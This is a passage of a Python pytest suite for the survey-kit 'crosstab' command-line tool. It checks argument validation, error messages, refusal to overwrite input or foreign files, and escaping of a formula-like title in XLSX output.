    with zipfile.ZipFile(a) as z:
        assert {i.date_time for i in z.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        assert b"2000-01-01T00:00:00Z" in z.read("docProps/core.xml")


# ---------------------------------------------------------------------------
# survey-kit crosstab on the command line
# ---------------------------------------------------------------------------

def cli(capsys, *argv):
    from survey_kit.cli import main

    try:
        code = main([str(a) for a in argv])
    except SystemExit as exc:           # argparse
        code = exc.code
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


def error_line(err: str) -> str:
    lines = [ln for ln in err.splitlines() if "error:" in ln]
    assert len(lines) == 1, err
    return lines[0]


@pytest.fixture
def data_copy(tmp_path):
    path = tmp_path / "export.csv"
    shutil.copy(SAMPLE, path)
    return path


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "text"])
def test_cli_refuses_to_write_over_its_input(capsys, data_copy, fmt):
    before = _digest(data_copy)
    code, _, err = cli(capsys, "crosstab", QUESTIONNAIRE, data_copy, "--rows", "foreign_share",
                       "--cols", "export_intensity", "--unweighted", "--format", fmt,
                       "--out", data_copy)
    assert code == 2
    assert "refusing to write over an input file" in error_line(err)
    assert str(data_copy) in error_line(err)
    assert _digest(data_copy) == before
    assert sorted(p.name for p in data_copy.parent.iterdir()) == ["export.csv"]


def test_cli_refuses_to_write_over_its_input_even_with_force(capsys, data_copy):
    before = _digest(data_copy)
    code, _, err = cli(capsys, "crosstab", QUESTIONNAIRE, data_copy, "--rows", "foreign_share",
                       "--cols", "export_intensity", "--unweighted", "--out", data_copy,
                       "--force")
    assert code == 2 and "input file" in error_line(err) and _digest(data_copy) == before


BAD_CLI = [
    ("alpha-not-a-number", ["--alpha", "abc"], "argument --alpha: invalid float value: 'abc'"),
    ("alpha-out-of-range", ["--alpha", "2"], "alpha must be a number between 0 and 1; got 2.0"),
    ("alpha-nan", ["--alpha", "nan"], "alpha must be a number between 0 and 1; got nan"),
    ("min-base-negative", ["--min-base", "-1"], "min_base must be a non-negative integer"),
    ("min-base-not-integer", ["--min-base", "2.5"], "argument --min-base: invalid int value"),
    ("percent-unknown", ["--percent", "cell"], "argument --percent: invalid choice: 'cell'"),
    ("lang-unsupported", ["--lang", "fr"], "argument --lang: invalid choice: 'fr'"),
    ("adjust-unknown", ["--adjust", "tukey"], "argument --adjust: invalid choice: 'tukey'"),
    ("format-unknown", ["--format", "docx"], "argument --format: invalid choice: 'docx'"),
    ("xlsx-without-out", ["--format", "xlsx"], "--format xlsx writes a workbook; give the file"),
    ("weighting-options-together", ["--unweighted", "--weight-column", "w"],
     "argument --weight-column: not allowed with argument --unweighted"),
]


@pytest.mark.parametrize("case", BAD_CLI, ids=[c[0] for c in BAD_CLI])
def test_cli_bad_arguments(capsys, data_copy, case):
    _, extra, fragment = case
    code, out, err = cli(capsys, "crosstab", QUESTIONNAIRE, data_copy, "--rows",
                         "foreign_share", "--cols", "export_intensity", *extra)
    assert code == 2 and out == ""
    assert fragment in error_line(err)
    assert "weights:" not in err                  # refused before the data were read


BAD_CLI_DATA = [
    ("rows-empty", ["--rows", "", "--cols", "export_intensity"],
     "rows must be a variable name or a list of names; got []"),
    ("cols-only-commas", ["--rows", "foreign_share", "--cols", ","],
     "cols must be a variable name or a list of names; got []"),
    ("rows-missing", ["--cols", "export_intensity"], "the following arguments are required: "
                                                     "--rows"),
    ("unknown-row", ["--rows", "nope", "--cols", "export_intensity"],
     "unknown row variable(s) 'nope'; valid names are:"),
    ("unknown-col", ["--rows", "foreign_share", "--cols", "nope"],
     "unknown banner (--cols) variable(s) 'nope'"),
    ("weight-column-absent", ["--rows", "foreign_share", "--cols", "export_intensity",
                              "--weight-column", "nope"],
     "the weight column 'nope' is not in"),
    ("weight-column-text", ["--rows", "foreign_share", "--cols", "export_intensity",
                            "--weight-column", "device"],
     "column 'device': weights must be numeric"),
    ("unknown-encoding", ["--rows", "foreign_share", "--cols", "export_intensity",
                          "--encoding", "nope-enc"], "unknown encoding 'nope-enc'"),
    ("targets-missing", ["--rows", "foreign_share", "--cols", "export_intensity",
                         "--targets", "/no/such/targets.csv"],
     "/no/such/targets.csv: targets file not found"),
]


@pytest.mark.parametrize("case", BAD_CLI_DATA, ids=[c[0] for c in BAD_CLI_DATA])
def test_cli_bad_variables_and_inputs(capsys, data_copy, case):
    _, extra, fragment = case
    code, out, err = cli(capsys, "crosstab", QUESTIONNAIRE, data_copy, *extra)
    assert code == 2 and out == ""
    assert fragment in error_line(err)


def test_cli_missing_response_file(capsys, tmp_path):
    code, _, err = cli(capsys, "crosstab", QUESTIONNAIRE, tmp_path / "none.csv", "--rows",
                       "foreign_share", "--cols", "export_intensity")
    assert code == 2 and "none.csv: file not found" in error_line(err)


def test_cli_missing_questionnaire(capsys, data_copy):
    code, _, err = cli(capsys, "crosstab", data_copy.parent / "q.yaml", data_copy, "--rows",
                       "foreign_share", "--cols", "export_intensity")
    assert code == 2 and "q.yaml: file not found" in error_line(err)


def test_cli_out_is_a_folder(capsys, data_copy, tmp_path):
    (tmp_path / "tables").mkdir()
    code, _, err = cli(capsys, "crosstab", QUESTIONNAIRE, data_copy, "--rows", "foreign_share",
                       "--cols", "export_intensity", "--out", tmp_path / "tables")
    assert code == 2 and "is a folder; give the path of a file" in error_line(err)


def test_cli_refuses_to_replace_a_file_it_did_not_write(capsys, data_copy, tmp_path):
    mine = tmp_path / "notes.md"
    mine.write_text("my notes", encoding="utf-8")
    code, _, err = cli(capsys, "crosstab", QUESTIONNAIRE, data_copy, "--rows", "foreign_share",
                       "--cols", "export_intensity", "--unweighted", "--out", mine)
    assert code == 2 and "refusing to replace a file survey-kit did not write" in err
    assert mine.read_text(encoding="utf-8") == "my notes"


def test_cli_over_long_title_in_xlsx_is_refused_and_leaves_nothing(capsys, data_copy,
                                                                   tmp_path):
    out = tmp_path / "t.xlsx"
    code, _, err = cli(capsys, "crosstab", QUESTIONNAIRE, data_copy, "--rows", "foreign_share",
                       "--cols", "export_intensity", "--unweighted", "--title", "t" * 40_000,
                       "--out", out)
    assert code == 2 and "40000 characters does not fit in an XLSX cell" in error_line(err)
    assert not out.exists() and not list(tmp_path.glob(".t.xlsx.*"))


def test_cli_formula_title_is_escaped(capsys, data_copy, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "t.xlsx"
    code, _, err = cli(capsys, "crosstab", QUESTIONNAIRE, data_copy, "--rows", "foreign_share",
                       "--cols", "export_intensity", "--unweighted", "--title", "=1+1",
                       "--out", out)
    assert code == 0, err
    cell = load_workbook(out).active["A1"]
    assert cell.value == "'=1+1" and cell.data_type == "s"
    assert _live_xlsx(out) == []
